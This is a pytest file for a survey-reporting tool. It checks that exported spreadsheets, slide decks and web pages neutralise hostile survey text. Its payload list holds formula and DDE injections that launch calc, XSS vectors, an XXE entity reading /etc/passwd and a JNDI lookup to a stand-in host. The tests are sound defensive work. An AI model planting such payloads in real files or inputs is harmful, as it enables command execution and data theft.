"""Nothing in a report runs, links or fetches, and no file of it holds what is hidden."""

import io
import re
import zipfile
from html.parser import HTMLParser
from itertools import product

import openpyxl
import pytest

from analysis import codebook, material, reporting
from analysis.material import Material
from analysis.present import manifest, page, pictures, report_book, slide_readback
from analysis.privacy.presets import PRESETS
from analysis.reporting import Settings
from analysis.workspace import pseudonyms

STARTS = ("=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠")
FORMULAS = ("1+2", 'HYPERLINK("http://x.example/","a")', "cmd|' /C calc'!A0", "SUM(A1:A9)*1")
MARKUP = (
    "<script>window.pwned=1</script>",
    "<img src=http://x.example/a.png>",
    "<img src=x onerror=window.pwned=1>",
    "![a](http://x.example/b.png)",
    "[a](javascript:window.pwned=1)",
    "\\href{http://x.example}{a}",
    "\\includegraphics{http://x.example/c.png}",
    "<svg onload=window.pwned=1>",
    "<iframe srcdoc='<script>window.pwned=1</script>'>",
    ":red[a] :material/home:",
    "a < b > c & d &amp; e",
    "</script><script>window.pwned=1</script>",
    "]]><script>window.pwned=1</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "{{ 7*7 }}{% for a in b %}",
    "%{meta.a} %{y} <b>bold</b> <a href='http://x.example'>a</a>",
    "url(http://x.example/d.png)",
    "_x0041_ _x000D_",
    "' onmouseover='window.pwned=1",
    '" onfocus="window.pwned=1" autofocus="',
    "http://x.example/e",
    "${jndi:ldap://x.example/a}",
    "R\u202etxt.exe",
    'DDE("cmd";"/C calc";"a")',
)
PAYLOADS = (*(start + own for start in STARTS for own in FORMULAS), *MARKUP)
PEOPLE = 6  # who choose each: enough for every audience


def quoted(text):
    return '"' + text.replace('"', '""') + '"'


def hostile():
    """A survey whose options, questions and answers, and whose name, are payloads."""
    assert len(PAYLOADS) == 60
    heads = ["Which? " + MARKUP[0], "And? =1+2", "What benefits? " + MARKUP[1]]
    rows = [";".join(map(quoted, heads))]
    for at, payload in enumerate(PAYLOADS):
        other = PAYLOADS[(at + 7) % len(PAYLOADS)]
        for _ in range(PEOPLE):
            rows.append(";".join(map(quoted, (payload, other, f"Everyone can join. {payload}"))))
    files = codebook.texts_of()
    label = re.search(rb"label: \{[^}]*en: ([^,}]+)", files["codebook.yaml"])
    if label:
        files["codebook.yaml"] = files["codebook.yaml"].replace(label[1], b"'=1+2 <script>'", 1)
    name = "<img src=http://x.example/f.png>=1+2.csv"
    return Material(((name, "\n".join(rows).encode()),), files)


@pytest.fixture(scope="module")
def made():
    own = hostile()
    prepared = material.prepared(own)
    return {
        preset: reporting.made(own, prepared, Settings("all", preset=preset))
        for preset in ("public", "researcher")
    }


def parts(content):
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            own = package.read(name)
            if own.startswith(b"PK\x03\x04"):
                yield from ((f"{name}/{inner}", part) for inner, part in parts(own))
            else:
                yield name, own


@pytest.mark.parametrize("preset", ["public", "researcher"])
@pytest.mark.parametrize("ending", [".pptx", ".xlsx"])
def test_an_office_file_has_no_formula_link_or_program(made, preset, ending):
    content = reporting.WRITERS[ending](made[preset])
    for name, part in parts(content):
        assert "vba" not in name.lower() and "externalLink" not in name, name
        assert b'TargetMode="External"' not in part, name
        assert not re.search(rb"<(\w+:)?f[ >]", part) or "chart" in name, name
        assert b"hlinkClick" not in part and b"<!ENTITY" not in part, name
    reader = {".pptx": slide_readback, ".xlsx": report_book}[ending]
    assert reader.figures_of(content) == manifest.figures(made[preset].report.exhibits)


def test_texts_stand_in_a_workbook_as_they_were_typed(made):
    book = openpyxl.load_workbook(io.BytesIO(reporting.WRITERS[".xlsx"](made["researcher"])))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert not [cell for cell in cells if cell.hyperlink and cell.hyperlink.target]
    texts = {re.sub("_x005F_", "_", str(cell.value)) for cell in cells if cell.value is not None}
    assert not {p for p in PAYLOADS if not any(p in text for text in texts)}


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def test_a_page_has_no_script_and_points_nowhere(made):
    for own in made.values():
        content = reporting.WRITERS[".html"](own)
        tags = Tags()
        tags.feed(content.decode())
        names = {tag for tag, _ in tags.found}
        assert not names & {
            "img",
            "iframe",
            "object",
            "embed",
            "link",
            "base",
            "form",
            "foreignobject",
        }
        assert [a for tag, a in tags.found if tag == "script"] == [
            {"type": "application/json", "id": "manifest"}
        ]
        for _, attributes in tags.found:
            assert not [name for name in attributes if name.startswith("on")]
            to = [attributes.get(name) or "#" for name in ("href", "src", "xlink:href", "action")]
            assert all(own.startswith("#") for own in to)
        assert page.figures_of(content) == manifest.figures(own.report.exhibits)


def test_the_words_of_pictures_are_text(made):
    told = pictures.told(made["public"].report.exhibits).decode()
    assert not [line for line in told.splitlines() if line[:1] in ("=", "@", "+")]
    assert all(
        "/" not in n and "<" not in n for n in pictures.names(made["public"].report.exhibits)
    )


def survey(first, second, are_themes):
    """A survey in which two options, or two themes, are named by a few each."""
    rows = ["Gender;Tools?;What benefits?"]
    for at in range(60):
        few = at < first, 60 - at <= second
        tools = ["Teams", "Zoom"] if at % 2 else ["Teams"]
        said = "Everyone can join the work"
        if are_themes and any(few):
            said = "It saves money" if few[0] else "It is flexible for us"
        elif any(few):
            tools.append("Rare one" if few[0] else "Rare two")
        rows.append(f"{'ab'[at % 2]};{', '.join(tools)};{said}, told class {at}")
    return "\n".join(rows).encode()


@pytest.mark.parametrize("ending", list(reporting.WRITERS))
@pytest.mark.parametrize("are_themes", [False, True], ids=["options", "themes"])
@pytest.mark.parametrize(
    ("preset", "hidden"),
    [
        (name, hidden)
        for name, own in PRESETS.items()
        for hidden in ((1, 2), (3, 4))  # from three on the reader takes them for options
        if own.hides and max(hidden) < own.threshold
    ],
)
def test_no_part_of_a_file_differs_by_what_is_hidden(preset, hidden, are_themes, ending):
    if are_themes and preset in ("partner", "archive") and ending == ".xlsx":
        pytest.skip("these audiences are given the answers, from which themes can be counted")
    found = []
    for counts in (hidden, hidden[::-1]):
        own = Material((("a.csv", survey(*counts, are_themes)),), ids=ids())
        made = reporting.made(own, material.prepared(own), Settings("all", preset=preset))
        content = reporting.WRITERS[ending](made)
        digest = manifest.digest(own.exports[0][1]).encode()
        named = {"a": content} if ending == ".html" else dict(parts(content))
        found.append({name: part.replace(digest, b"") for name, part in named.items()})
    assert found[0] == found[1]
    shown = re.compile(rb"Cost-efficiency" if are_themes else rb"Others\s+together|Rare\s+one")
    assert any(shown.search(part) for part in found[0].values())


def ids():
    signs = pseudonyms._SIGNS[:8]
    rows = [f"{at},R-{''.join(own)}" for at, own in enumerate(product(signs, repeat=5)) if at < 60]
    return ("id,export_id\n" + "\n".join(rows) + "\n").encode()
